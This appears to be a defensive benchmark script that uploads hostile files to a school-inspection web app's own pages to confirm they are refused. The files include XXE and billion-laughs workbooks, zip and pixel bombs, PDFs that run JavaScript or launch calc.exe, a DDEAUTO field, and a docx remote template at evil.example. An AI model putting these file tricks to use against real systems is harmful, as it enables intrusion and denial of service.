"""Attack run (issue 13, "done when"): every malformed workbook and hostile file, through the real
upload pages of the app as deployed, while another client keeps asking for a page.

Run on demand (not part of the suite; it takes a few minutes):

    .venv/bin/python benchmarks/attack.py [--schools 20] [--database attack]

What it does:

1. Drops and creates the PostgreSQL database `attack` (127.0.0.1:5432, user postgres, trust),
   migrates it and loads the demo county (JUNHENG_DEMO=1) under production settings, with a
   fresh data directory.
2. Starts gunicorn (two workers, --preload, as in tests/site_wide/test_security.py's `served`)
   and the task worker (`manage.py db_worker`), which checks the imports beyond 300 rows.
3. Signs in as the county admin (yearly import, evidence, problem photos) and the inspector
   (visit photos); a third session, the principal, asks for the home page every 0.2 s for the
   whole run ("the other client").
4. Sends each hostile file (built by the same generators as the tests: tests/evaluation,
   tests/checklists, tests/checklist_core, tests/rectification) to its page and follows the
   answer — the page's message, the preview's problems, or the background job's page until the
   job ends — and records: the HTTP status, the seconds until the refusal was shown, whether
   the expected message was shown, whether anything was written (school-year rows and their
   versions, evidence files, problem photos, visits and their photos), and the other client's
   slowest answer meanwhile. A few good files (controls) prove each page really accepts.

Prints a Markdown table (for benchmarks/README.md, section "Attack run") and exits non-zero if
any hostile file was accepted, answered 500, took longer than --budget seconds, wrote anything
or left the other client unanswered for longer than the budget.
"""

from __future__ import annotations

import argparse
import contextlib
import io
import os
import platform
import re
import socket
import subprocess
import sys
import tempfile
import threading
import time
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import date
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
sys.path[:0] = [str(ROOT / "tests"), str(ROOT / "src")]
PASSWORD = "junheng-demo"  # junheng.demo_county.people.DEMO_PASSWORD


# --- the server ----------------------------------------------------------------------------------


def environment(database_url: str, data_dir: Path) -> dict[str, str]:
    """Production settings (as tests/site_wide/test_security.py's), on PostgreSQL."""
    env = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("JUNHENG_", "DJANGO_", "DATABASE_URL"))
    }
    env.update(
        JUNHENG_SECRET_KEY="x" * 20 + "-attack-run-secret-with-enough-entropy-4f9a8b7c6d5e",
        JUNHENG_ALLOWED_HOSTS="127.0.0.1",
        JUNHENG_HTTPS="0",
        JUNHENG_DATA_DIR=str(data_dir),
        JUNHENG_DEMO="1",
        DATABASE_URL=database_url,
        DJANGO_SETTINGS_MODULE="junheng.site.settings",
        PYTHONPATH=str(ROOT / "src"),  # this tree's code (a clean copy of HEAD, say)
    )
    return env


def recreate_database(server_url: str, name: str) -> None:
    import psycopg

    with psycopg.connect(f"{server_url}/postgres", autocommit=True) as connection:
        connection.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        connection.execute(f'CREATE DATABASE "{name}"')


def manage(env: dict[str, str], *command: str) -> None:
    subprocess.run(
        [sys.executable, "manage.py", *command], cwd=ROOT, env=env, check=True, capture_output=True
    )


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        return probe.getsockname()[1]


def start(env: dict[str, str], port: int, log: Path) -> list[subprocess.Popen]:
    out = log.open("ab")
    server = subprocess.Popen(
        [
            *(sys.executable, "-m", "gunicorn", "--workers", "2", "--preload", "--timeout", "30"),
            *("--bind", f"127.0.0.1:{port}", "junheng.site.wsgi:application"),
        ],
        cwd=ROOT,
        env=env,
        stdout=out,
        stderr=out,
    )
    worker = subprocess.Popen(
        [sys.executable, "manage.py", "db_worker", "--no-reload"],
        cwd=ROOT,
        env=env,
        stdout=out,
        stderr=out,
    )
    for _ in range(3000):  # --preload imports the whole app first: slow on a loaded machine
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), 0.2):
            return [server, worker]
        time.sleep(0.1)
    for process in (server, worker):
        process.terminate()
    raise SystemExit("gunicorn did not start")


# --- the clients ---------------------------------------------------------------------------------

TOKEN = re.compile(r'name="csrfmiddlewaretoken" value="([^"]+)"')


def signed_in(base: str, username: str) -> Any:
    import requests

    session = requests.Session()
    page = session.get(f"{base}/accounts/login/", timeout=30)
    token = TOKEN.search(page.text).group(1)
    answer = session.post(
        f"{base}/accounts/login/",
        data={"username": username, "password": PASSWORD, "csrfmiddlewaretoken": token},
        headers={"Referer": f"{base}/accounts/login/"},
        timeout=30,
    )
    if "/accounts/login/" in answer.url:
        raise SystemExit(f"{username} could not sign in")
    return session


class Prober(threading.Thread):
    """The other client: asks for the home page every 0.2 s, keeping each answer's time."""

    def __init__(self, session: Any, url: str) -> None:
        super().__init__(daemon=True)
        self.session, self.url = session, url
        self.samples: list[tuple[float, float, int]] = []  # started, seconds, status
        self.stopped = threading.Event()

    def run(self) -> None:
        while not self.stopped.is_set():
            started = time.monotonic()
            try:
                status = self.session.get(self.url, timeout=60).status_code
            except Exception:
                status = 0
            self.samples.append((started, time.monotonic() - started, status))
            time.sleep(0.2)

    def worst_between(self, start: float, end: float) -> tuple[float, int]:
        """The slowest answer that overlapped the window, and how many were not 200."""
        window = [s for s in self.samples if s[0] <= end and s[0] + s[1] >= start]
        slowest = max((seconds for _, seconds, _ in window), default=0.0)
        return slowest, sum(1 for _, _, status in window if status != 200)


# --- the hostile files ---------------------------------------------------------------------------


@dataclass
class Case:
    page: str  # import, evidence, problem photo, visit photo
    name: str  # what it is
    filename: str
    data: bytes
    expect: str  # a phrase of the refusal the page must show
    control: bool = False  # a good file: it must be accepted
    writes: bool | None = None  # whether the page writes once it accepts (a preview does not)

    def __post_init__(self) -> None:
        if self.writes is None:
            self.writes = self.control


@dataclass
class Outcome:
    case: Case
    status: int
    seconds: float
    shown: bool
    written: bool
    other_worst: float
    other_failed: int
    where: str = ""
    notes: list[str] = field(default_factory=list)

    @property
    def ok(self) -> bool:
        return self.status < 500 and self.shown and (self.written == self.case.writes)


def workbook_cases(base_rows: Callable[..., bytes]) -> list[Case]:
    from evaluation import test_hostile_workbooks as hw
    from evaluation.factory import school, write_parquet, write_xlsx

    folder = Path(tempfile.mkdtemp())
    template = write_xlsx(folder / "t.xlsx", [school(n) for n in range(1, 3)]).read_bytes()
    sheet30 = write_xlsx(folder / "t30.xlsx", [school(n) for n in range(1, 31)]).read_bytes()
    with zipfile.ZipFile(io.BytesIO(sheet30)) as archive:
        sheet = archive.read(hw.SHEET)
    strings = (
        b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
        b'spreadsheetml/2006/main">' + b"<si><t>x</t></si>" * 1_000_000 + b"</sst>"
    )
    far = hw.SHEET_HEAD + b'<row r="1048576"><c r="A1048576"><v>1</v></c></row>' + hw.SHEET_TAIL
    wide = hw.SHEET_HEAD + b'<row r="1"><c r="ZZ1"><v>1</v></c></row>' + hw.SHEET_TAIL
    utf16 = (hw.SHEET_HEAD + b'<row r="1"><c r="A1"><v>1</v></c></row>' + hw.SHEET_TAIL).decode()
    zeros = b"\0" * (200 * 1024 * 1024)
    parquet = write_parquet(folder / "t.parquet", [school(1)]).read_bytes()
    long_csv = b"a,b\n" + b"1,2\n" * 2_000_000
    wide_csv = (",".join(f"c{i}" for i in range(5000)) + "\n").encode()
    cases = [
        (
            "百万行（150 KB 的 xlsx）",
            "百万行.xlsx",
            hw.replaced(template, {hw.SHEET: hw.million_rows()}),
            "数据超过",
        ),
        (
            "百万共享字符串",
            "共享字符串.xlsx",
            hw.replaced(template, {hw.STRINGS: strings}),
            "共享字符串超过",
        ),
        ("行号 1048576", "远行.xlsx", hw.replaced(template, {hw.SHEET: far}), "数据超过"),
        ("宽于 200 列", "宽表.xlsx", hw.replaced(template, {hw.SHEET: wide}), "超过 200 列"),
        (
            "工作表 DTD 实体（billion laughs）",
            "laughs.xlsx",
            hw.replaced(template, {hw.SHEET: hw.BILLION_LAUGHS}),
            "实体扩展攻击",
        ),
        (
            "工作表外部实体（XXE）",
            "xxe.xlsx",
            hw.replaced(template, {hw.SHEET: hw.EXTERNAL_ENTITY}),
            "实体扩展攻击",
        ),
        (
            "共享字符串实体",
            "sst-laughs.xlsx",
            hw.replaced(template, {hw.STRINGS: hw.BILLION_LAUGHS}),
            "实体扩展攻击",
        ),
        (
            "截断的工作表",
            "截断表.xlsx",
            hw.replaced(sheet30, {hw.SHEET: sheet[: len(sheet) // 2]}),
            "无法作为 Excel 工作簿",
        ),
        ("截断的文件", "截断.xlsx", sheet30[: len(sheet30) // 2], "无法作为 Excel 工作簿"),
        (
            "UTF-16 工作表",
            "utf16.xlsx",
            hw.replaced(template, {hw.SHEET: utf16.replace("UTF-8", "UTF-16").encode("utf-16")}),
            "UTF-8",
        ),
        (
            "解压 200 MB 的成员（zip 炸弹）",
            "炸弹.xlsx",
            hw.replaced(template, {"xl/media/image1.png": zeros}),
            "解压后超过",
        ),
        ("两百万行 CSV", "很长.csv", long_csv, "数据超过"),
        ("5000 列 CSV", "很宽.csv", wide_csv, "超过 200 列"),
        ("损坏的 Parquet", "损坏.parquet", parquet[: len(parquet) // 2], "无法作为 Parquet"),
        ("改名为 xlsx 的程序", "程序.xlsx", b"MZ\x90\x00" + b"\0" * 4000, "无法作为 Excel"),
        ("30 亿册图书", "图书.csv", base_rows(books=3_000_000_000), "超出可保存的范围"),
        ("101 字的学校名称", "长校名.csv", base_rows(school_name="长" * 101), "最多 100 个"),
        ("51 字的乡镇", "长乡镇.csv", base_rows(township="乡" * 51), "最多 50 个"),
        ("NUL 字符", "空字符.csv", base_rows(school_name="城关\x00小学"), "空字符（NUL）"),
    ]
    out = [Case("年度数据导入", *c) for c in cases]
    out.append(
        Case("年度数据导入", "（对照）正确的两行", "正确.csv", base_rows(), "检查通过", True, False)
    )
    return out


def evidence_cases() -> list[Case]:
    from checklist_core import test_office as office
    from checklists import samples
    from checklists import test_uploads as up

    def zipped(entries: dict[str, bytes]) -> bytes:
        return samples.zip_bytes({"照片.jpg": samples.JPEG, **entries})

    from pypdf import PdfWriter

    writer = PdfWriter()
    writer.add_blank_page(width=72, height=72)
    writer.add_attachment("setup.exe", samples.PE)
    attached = io.BytesIO()
    writer.write(attached)
    dde = office.word_body(office.field(f" DDEAUTO {office.CMD}"))
    cases = [
        (
            "PDF /J#61vaScript",
            "script.pdf",
            up.pdf_of(up.catalog(b"/OpenAction << /S /J#61vaScript /JS (x) >>"), *up.PAGES),
            "PDF 文件含脚本",
        ),
        (
            "PDF /L#61unch",
            "启动.pdf",
            up.pdf_of(up.catalog(b"/OpenAction << /S /L#61unch /F (calc.exe) >>"), *up.PAGES),
            "Launch",
        ),
        ("PDF 内嵌文件（pypdf）", "附件.pdf", attached.getvalue(), "内嵌了其他文件"),
        ("PDF 对象流中的 JavaScript", "对象流.pdf", up.js_in_an_object_stream(), "PDF 文件含脚本"),
        ("zip 含 setup.exe", "安装.zip", zipped({"setup.exe": samples.PE}), "setup.exe」是可执行"),
        ("zip 含 index.html", "网页.zip", zipped({"页面/index.html": samples.HTML}), "」是网页"),
        (
            "zip 套 zip 含 exe",
            "嵌套.zip",
            zipped({"更多.zip": samples.zip_bytes({"tools/setup.exe": samples.PE})}),
            "setup.exe」是可执行",
        ),
        ("zip 炸弹（解压 300 MB）", "炸弹.zip", samples.zeros_zip(300), "可能是压缩炸弹"),
        ("嵌套 5 层的 zip", "套娃.zip", samples.nested_zip(5), "嵌套超过"),
        ("20000×20000 PNG", "像素炸弹.png", up.pixel_bomb(), "百万像素"),
        ("含宏的 xlsm 改名 xlsx", "宏.xlsx", samples.XLSM_AS_XLSX, "文件含宏"),
        (
            "docx 含 OLE 对象",
            "对象.docx",
            office.rewritten(office.DOCX, {"word/embeddings/oleObject1.bin": office.OLE}),
            "内嵌了对象",
        ),
        (
            "docx 远程模板",
            "模板.docx",
            office.with_relationship(
                office.DOCX,
                "word/_rels/settings.xml.rels",
                ("attachedTemplate", "http://evil.example/t.dotm", "External"),
            ),
            "指向外部的链接",
        ),
        (
            "xlsx 外部链接",
            "链接.xlsx",
            office.rewritten(
                office.XLSX, {"xl/externalLinks/externalLink1.xml": b"<externalLink/>"}
            ),
            "链接了其他工作簿",
        ),
        ("docx DDEAUTO 字段", "通知.docx", dde, "DDE 字段"),
        ("exe 改名 pdf", "报告.pdf", samples.PE, "可执行程序"),
        ("双重扩展名", "报告.pdf.exe", samples.PE, "双重扩展名"),
        ("SVG 含脚本", "图.svg", samples.SVG_SCRIPT, "SVG 图片含脚本"),
        ("HTML 改名 txt", "说明.txt", samples.HTML, "内容是网页"),
    ]
    out = [Case("佐证材料上传", *c) for c in cases]
    out.append(
        Case(
            "佐证材料上传",
            "（对照）正常 PDF",
            "方案.pdf",
            up.pdf_of(up.catalog(), *up.PAGES),
            "已上传",
            True,
        )
    )
    return out


def photo_cases(page: str) -> list[Case]:
    from checklists import samples
    from checklists import test_uploads as up

    cases = [
        ("20000×20000 PNG", "像素炸弹.png", up.pixel_bomb(), "百万像素"),
        ("exe 改名 jpg", "照片.jpg", samples.PE, "不是照片"),
        ("HTML 改名 jpg", "照片2.jpg", samples.HTML, "不是照片"),
        ("SVG 含脚本改名 png", "照片3.png", samples.SVG_SCRIPT, "不是照片"),
        ("截断的 JPEG", "照片4.jpg", samples.image_bytes("JPEG", (400, 300))[:300], "图片已损坏"),
    ]
    out = [Case(page, *c) for c in cases]
    control = samples.image_bytes("JPEG", (64, 48))
    out.append(Case(page, "（对照）正常照片", "正常.jpg", control, "", True))
    return out


# --- running -------------------------------------------------------------------------------------


def snapshot() -> tuple[int, ...]:
    """What a refused upload may not change."""
    from django.db.models import Sum

    from junheng.checklists.models import EvidenceVersion
    from junheng.collection.models import SchoolYear
    from junheng.inspections.models import Visit, VisitPhoto
    from junheng.rectification.models import ProblemPhoto

    years = SchoolYear.objects.aggregate(n=Sum("version"))["n"] or 0
    return (
        SchoolYear.objects.count(),
        years,
        EvidenceVersion.objects.count(),
        ProblemPhoto.objects.count(),
        Visit.objects.count(),
        VisitPhoto.objects.count(),
    )


def follow_job(session: Any, base: str, response: Any, budget: float) -> Any:
    """The job's page until the job has ended (the import's check runs in the worker), then
    the page it leads to (the preview listing the file's problems), if any."""
    from junheng.jobs.models import Job

    match = re.search(r"/jobs/([0-9a-f-]{36})/", response.url)
    if not match:
        return response
    deadline = time.monotonic() + budget * 4
    while time.monotonic() < deadline:
        job = Job.objects.get(pk=match.group(1))
        if job.is_finished:
            break
        time.sleep(0.2)
    page = session.get(f"{base}/jobs/{match.group(1)}/", timeout=60)
    if job.result_url:
        return session.get(f"{base}{job.result_url}", timeout=60)
    return page


def token_of(session: Any, url: str) -> str:
    return TOKEN.search(session.get(url, timeout=60).text).group(1)


def attack(case: Case, sessions: dict[str, Any], base: str, ids: dict[str, int], budget: float):
    import requests  # noqa: F401

    page = case.page
    if page == "年度数据导入":
        session, url, form_url = sessions["admin"], f"{base}/data/import/", f"{base}/data/import/"
        files, data = {"file": (case.filename, case.data)}, {}
    elif page == "佐证材料上传":
        session = sessions["admin"]
        url = f"{base}/checklists/assignments/{ids['assignment']}/upload/"
        form_url = f"{base}/checklists/items/{ids['item']}/"
        files, data = {"file": (case.filename, case.data)}, {"requirement": "", "comment": ""}
    elif page == "问题整改照片":
        session = sessions["admin"]
        url = f"{base}/problems/{ids['problem']}/photos/"
        form_url = f"{base}/problems/{ids['problem']}/"
        files, data = {"photos": (case.filename, case.data)}, {}
    else:
        session, url = sessions["inspector"], f"{base}/visits/new/"
        form_url = url
        files = {"photos": (case.filename, case.data)}
        data = {
            "school": ids["school"],
            "date": date.today().isoformat(),
            "checked": "教室、功能室",
            "findings": "",
            "companions": "",
        }
    data["csrfmiddlewaretoken"] = token_of(session, form_url)
    started = time.monotonic()
    response = session.post(url, data=data, files=files, timeout=120, headers={"Referer": url})
    response = follow_job(session, base, response, budget)
    seconds = time.monotonic() - started
    return response, seconds, started


def message_in(html: str, phrase: str) -> str:
    """The page's refusal (message, problem list or job error) around the phrase, as text."""
    text = re.sub(r"<[^>]+>", " ", html)
    text = re.sub(r"\s+", " ", text)
    at = text.find(phrase)
    if at < 0:
        return ""
    start = text.rfind(" ", 0, at) + 1  # the sentence's start: the page's cells are apart
    return text[start : at + 60].strip()


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--server", default="postgresql://postgres@127.0.0.1:5432")
    parser.add_argument("--database", default="attack")
    parser.add_argument("--schools", type=int, default=20)
    parser.add_argument("--budget", type=float, default=10.0, help="seconds a refusal may take")
    parser.add_argument("--only", default="", help="run only cases whose name contains this")
    parser.add_argument(
        "--reuse", action="store_true", help="keep the database of an earlier run as it is"
    )
    options = parser.parse_args()

    data_dir = Path(tempfile.mkdtemp(prefix="junheng-attack-"))
    env = environment(f"{options.server}/{options.database}", data_dir)
    setup_started = time.monotonic()
    if not options.reuse:
        recreate_database(options.server, options.database)
    manage(env, "migrate", "--noinput", "-v0")
    if not options.reuse:
        manage(env, "load_demo", "--schools", str(options.schools))
    manage(env, "collectstatic", "--noinput", "-v0")
    print(f"database ready in {time.monotonic() - setup_started:.0f} s", file=sys.stderr)

    os.environ.update(env)
    import django

    django.setup()
    ids = demo_ids()
    base_rows = rows_maker(ids["county"])

    port = free_port()
    base = f"http://127.0.0.1:{port}"
    processes = start(env, port, data_dir / "server.log")
    outcomes: list[Outcome] = []
    try:
        sessions = {"admin": signed_in(base, "county_admin")}
        sessions["inspector"] = signed_in(base, "inspector")
        prober = Prober(signed_in(base, "principal"), f"{base}/")
        prober.start()
        cases = (
            workbook_cases(base_rows)
            + evidence_cases()
            + photo_cases("问题整改照片")
            + photo_cases("督学走访照片")
        )
        for case in cases:
            if options.only and options.only not in case.name:
                continue
            before = snapshot()
            response, seconds, started = attack(case, sessions, base, ids, options.budget)
            after = snapshot()
            time.sleep(0.3)  # the prober's answer begun during the attack has come back
            worst, failed = prober.worst_between(started, started + seconds)
            shown_text = message_in(response.text, case.expect) if case.expect else "（已接受）"
            outcome = Outcome(
                case=case,
                status=response.history[0].status_code
                if response.history
                else response.status_code,
                seconds=seconds,
                shown=bool(shown_text) and response.status_code < 500,
                written=before != after,
                other_worst=worst,
                other_failed=failed,
                where=shown_text,
            )
            if response.status_code >= 500:
                outcome.notes.append(f"final page {response.status_code}")
            outcomes.append(outcome)
            print(
                f"{'ok ' if outcome.ok else 'BAD'} {case.page} · {case.name}: {outcome.status} "
                f"{seconds:.2f} s, other ≤ {worst:.2f} s, written={outcome.written} · {shown_text}",
                file=sys.stderr,
            )
        prober.stopped.set()
    finally:
        for process in processes:
            process.terminate()
        for process in processes:
            with contextlib.suppress(subprocess.TimeoutExpired):
                process.wait(timeout=10)
    print_table(outcomes, options)
    bad = [
        o
        for o in outcomes
        if not o.ok
        or o.seconds > options.budget
        or o.other_worst > options.budget
        or o.other_failed
    ]
    return 1 if bad else 0


def demo_ids() -> dict[str, int]:
    """The demo county's objects the attacks aim at, each one its user may upload to."""
    from junheng.access import CHANGE
    from junheng.accounts.models import User
    from junheng.checklists.models import Assignment
    from junheng.inspections.selectors import visitable_schools
    from junheng.rectification.models import Problem
    from junheng.rectification.selectors import editable_fields
    from junheng.registry.models import County

    admin = User.objects.get(username="county_admin")
    inspector = User.objects.get(username="inspector")
    assignment = Assignment.objects.restrict(admin, CHANGE).order_by("pk").first()
    problem = next(
        p
        for p in Problem.objects.filter(county=admin.county).order_by("pk")
        if editable_fields(actor=admin, problem=p)
    )
    return {
        "county": County.objects.get(pk=admin.county_id).pk,
        "assignment": assignment.pk,
        "item": assignment.item_id,
        "problem": problem.pk,
        "school": visitable_schools(inspector).order_by("pk").first().pk,
    }


def rows_maker(county_id: int) -> Callable[..., bytes]:
    """A CSV of two of the county's school-years as the template writes them, with changes."""
    from junheng.collection.models import SchoolYear
    from junheng.collection.template_rows import record_row
    from junheng.evaluation.template import HEADERS, KEYS

    records = list(
        SchoolYear.objects.filter(school__county_id=county_id)
        .select_related("school", "school__township", "school__county")
        .order_by("-year", "school__code")[:2]
    )

    def rows(**changes: Any) -> bytes:
        lines = [",".join(HEADERS[k] for k in KEYS)]
        for record in records:
            row = {**record_row(record), **changes}
            lines.append(",".join("" if row[k] is None else str(row[k]) for k in KEYS))
        return ("\n".join(lines) + "\n").encode("utf-8")

    return rows


def print_table(outcomes: list[Outcome], options: Any) -> None:
    cores = os.cpu_count()
    load = ", ".join(f"{x:.2f}" for x in os.getloadavg())
    machine = platform.processor() or platform.machine()
    print(
        f"\n{date.today().isoformat()} · {platform.node()} · {machine}"
        f" · {cores} cores · load average {load} · PostgreSQL · gunicorn 2 workers · "
        f"demo county of {options.schools} schools\n"
    )
    print("| 页面 | 文件 | HTTP | 秒 | 提示 | 写入 | 他人最慢（秒） |")
    print("|---|---|---|---|---|---|---|")
    for o in outcomes:
        verdict = ("接受" if o.case.control else "拒绝") if o.ok else "**未通过**"
        shown = o.where.replace("|", "/")[:60] or "—"
        print(
            f"| {o.case.page} | {o.case.name} | {o.status} | {o.seconds:.2f} | {verdict}：{shown} "
            f"| {'是' if o.written else '否'} | {o.other_worst:.2f} |"
        )


if __name__ == "__main__":
    raise SystemExit(main())
